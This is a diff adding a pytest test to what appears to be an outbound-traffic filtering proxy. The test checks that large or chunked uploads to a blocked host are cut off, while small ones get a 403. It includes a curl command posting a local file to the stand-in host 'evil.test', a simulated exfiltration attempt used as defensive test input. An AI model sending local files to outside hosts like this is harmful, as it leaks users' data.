@@ -604,6 +604,30 @@ def ask_fresh_blocked(env: Env) -> bool:
     return r.stdout == "403"
 
 
+@pytest.mark.parametrize(
+    ("proto", "chunked"), [("--http1.1", False), ("--http1.1", True), ("--http2", False)]
+)
+def test_blocked_large_upload_closed_never_reaches_upstream(env: Env, proto: str, chunked: bool):
+    """Over 1 MiB (or chunked) to a blocked host: the connection is closed (mitmproxy 11
+    cannot answer before the body ends without crashing); nothing reaches upstream."""
+    before = env.mark()
+    size = 3 * 1024 * 1024
+    blob = env.work / "home" / "blob-evil"
+    blob.write_bytes(b"e" * size)
+    os.chown(blob, CLIENT_UID, CLIENT_UID)
+    extra = ["-H", "Transfer-Encoding: chunked"] if chunked else []
+    r = env.curl(proto, *extra, "--data-binary", f"@{blob}", "https://evil.test/upload")
+    assert r.returncode != 0 and "body_len" not in r.stdout
+    [line] = env.new_lines(before, 1)
+    assert line["action"] == "BLOCK" and line["status"] is None and line["method"] == "POST"
+    assert "has crashed" not in env.interceptor_err.read_text()
+    # A small body to a blocked host still gets the 403 explanation.
+    before = env.mark()
+    r = env.curl("-i", "--data-binary", "small", "https://evil.test/upload")
+    assert_block_response(r.stdout, "host_not_allowed", "https://evil.test/upload")
+    assert env.new_lines(before, 1)[0]["bytes_out"] == 5
+
+
 # --------------------------------------------------------------------------- the log as a whole
 
 
